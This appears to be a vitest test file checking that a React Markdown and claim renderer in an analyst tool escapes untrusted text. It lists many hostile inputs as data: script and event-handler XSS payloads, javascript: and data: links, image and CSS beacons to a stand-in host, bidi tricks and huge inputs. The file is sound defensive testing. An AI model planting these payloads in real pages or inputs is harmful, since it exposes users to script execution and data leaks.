import fc from 'fast-check'
import { createElement, type ReactElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it, vi } from 'vitest'
import { Claim } from './claim.tsx'
import { PlainMarkdown, WithCode } from './plain-markdown.tsx'

// What a model, a log line or an imported document says reaches the analyst's page through these two. Whatever is in it,
// the page gets only elements and attributes that load nothing, run nothing and lead nowhere.

const quietTags = ['bdi', 'button', 'code', 'div', 'li', 'p', 'pre', 'span', 'strong', 'ul']
const iconTags = ['circle', 'path', 'rect', 'svg']
const quietAttributes = ['aria-hidden', 'aria-label', 'aria-pressed', 'class', 'title', 'type']
const iconAttributes =
  'xmlns width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin cx cy d r rx ry x y'.split(
    ' ',
  )

/** Elements and attributes in HTML as React writes it that are not known to be quiet. */
function loud(html: string): string[] {
  const found: string[] = []
  for (const [, name = '', inside = ''] of html.matchAll(
    /<([a-z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi,
  )) {
    const icon = iconTags.includes(name)
    if (!icon && !quietTags.includes(name)) found.push(name)
    for (const [, attribute = ''] of inside.matchAll(/\s([\w:-]+)(?:="[^"]*")?/g))
      if (!quietAttributes.includes(attribute) && !(icon && iconAttributes.includes(attribute)))
        found.push(`${name} ${attribute}`)
  }
  // What is left once the elements are gone has no bracket: everything else was escaped.
  const rest = html.replace(/<\/?[a-z][\w-]*(?:\s+[\w:-]+(?:="[^"]*")?)*\s*\/?>/gi, '')
  return /[<>]/.test(rest) ? [...found, `an open bracket: ${rest}`] : found
}

/** The words that are left to read. */
const wordsOf = (html: string) =>
  html
    .replace(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&amp;', '&')

const markdown = (text: string) => renderToStaticMarkup(createElement(PlainMarkdown, { text }))
const withCode = (text: string) => renderToStaticMarkup(createElement(WithCode, { text }))
const sentence = (text: string) =>
  renderToStaticMarkup(
    createElement(Claim, {
      claim: { text, status: 'verified', reasons: [text], evidence: [{ id: 'E1', quote: '' }] },
      evidence: [
        {
          id: 'E1',
          kind: 'field',
          source: 's',
          pointer: '/x',
          quote: '',
          trust: 'attacker-controlled',
          label: text,
        },
      ],
      openId: undefined,
      onOpen: () => undefined,
    }) as ReactElement,
  )

const hostile = [
  '![chart](https://evil.example/p.png?who=analyst)',
  '![x][ref]\n\n[ref]: https://evil.example/p.png "t"',
  '[Click](javascript:alert(1))',
  '[Click](JaVaScRiPt&colon;alert(1))',
  '[Click](data:text/html;base64,PHNjcmlwdD4=)',
  '[Click](vbscript:x "title\\" onmouseover=alert(1)")',
  '<javascript:alert(1)>',
  '<https://evil.example/auto>',
  'https://evil.example/bare and www.evil.example and mallory@evil.example',
  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
  '<svg/onload=alert(1)><iframe srcdoc="&lt;script&gt;">',
  '<a href="https://evil.example">x</a><style>*{background:url(//evil.example)}</style>',
  '**[bold](javascript:alert(1))** and **<b onclick=x>**',
  '`<img src=x>` and ``<script>`` and `![x](//evil.example)`',
  '# [heading](https://evil.example)\nand <u>more</u>',
  '- [item](javascript:1)\n- ![item](//evil.example)\n- <b>',
  '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
  '```\nnever closed <img src=x>',
  '> ![quoted](//evil.example)\n>> - **`[deep](javascript:1)`**',
  '| a | b |\n|---|---|\n| ![x](//evil.example) | <b> |',
  '[![nested](//evil.example/i.png)](javascript:alert(1))',
  '&lt;img src=x&gt; &#60;script&#62;',
  '\u202ehttps://evil.example\u202c \u200b<\u0000script>',
  '**'.repeat(400),
  '`'.repeat(999),
  `${'['.repeat(500)}x${'](javascript:1)'.repeat(500)}`,
]

describe('text that others wrote, as the page gets it', () => {
  it.each(hostile)('%j', text => {
    expect([loud(markdown(text)), loud(withCode(text)), loud(sentence(text))]).toEqual([[], [], []])
  })

  it('keeps addresses readable, as words', () => {
    expect(wordsOf(markdown('![a](https://evil.example/p.png)'))).toBe('![a](https://evil.example/p.png)')
    expect(wordsOf(sentence('<img src=x>'))).toContain('<img src=x>')
    expect(markdown('see \u202ehttps://evil.example')).toContain('RLO')
  })

  it('sets code apart in a sentence, and an odd backtick stays', () => {
    expect(withCode('Read `ss -tnp` on web-01.')).toMatch(
      /Read .*<code[^>]*><bdi[^>]*>ss -tnp<.* on web-01\./,
    )
    expect(wordsOf(withCode('Read `ss -tnp` now'))).toBe('Read ss -tnp now')
    expect(wordsOf(withCode('one ` only'))).toBe('one ` only')
  })

  it('is still Markdown: headings, lists, code and bold', () => {
    const html = markdown('# Title\n\n- one\n- **two**\n\n```sh\nls -l\n```\n\nrun `id`')
    expect(html).toMatch(/<p class="font-semibold"><bdi[^>]*>Title/)
    expect(html.match(/<li>/g)).toHaveLength(2)
    expect(html).toMatch(/<strong><bdi[^>]*>two/)
    expect(html).toMatch(/<pre[^>]*><bdi[^>]*>ls -l/)
    expect(html).toMatch(/<code[^>]*><bdi[^>]*>id/)
  })

  it('shows a line that is there twice twice, without a complaint', () => {
    const complaints = vi.spyOn(console, 'error')
    expect(markdown('- same\n- same').match(/same/g)).toHaveLength(2)
    expect(complaints).not.toHaveBeenCalled()
    complaints.mockRestore()
  })

  it.each([
    ['lines', '- <img src=x>\n\n'.repeat(100_000)],
    ['one line', '<script>'.repeat(200_000)],
    ['marks', '**`'.repeat(300_000)],
    ['fences', '```\n'.repeat(200_000)],
    ['invisible characters', '\u202e'.repeat(500_000)],
  ])('of a million characters is cut, and the rest is asked for: %s', (_what, text) => {
    for (const html of [markdown(text), sentence(text)]) {
      expect(loud(html)).toEqual([])
      expect(wordsOf(html)).toContain(`show all ${text.length.toLocaleString('en')} characters`)
      expect((html.match(/<[a-z]/g) ?? []).length).toBeLessThan(45_000)
    }
  })

  it('is quiet whatever is put together', () => {
    const piece = fc.constantFrom(
      ...hostile,
      ...'`|```|**|*|#|- |1. |\n|\n\n|[|](|)|!|<|>|"|\'|&|=|/|javascript:|data:|https://x.example'.split('|'),
      '|',
      '\u2067',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), pieces => {
        const text = pieces.join('')
        return loud(markdown(text)).length === 0 && loud(sentence(text)).length === 0
      }),
      { numRuns: 300, seed: 8 },
    )
  })
})
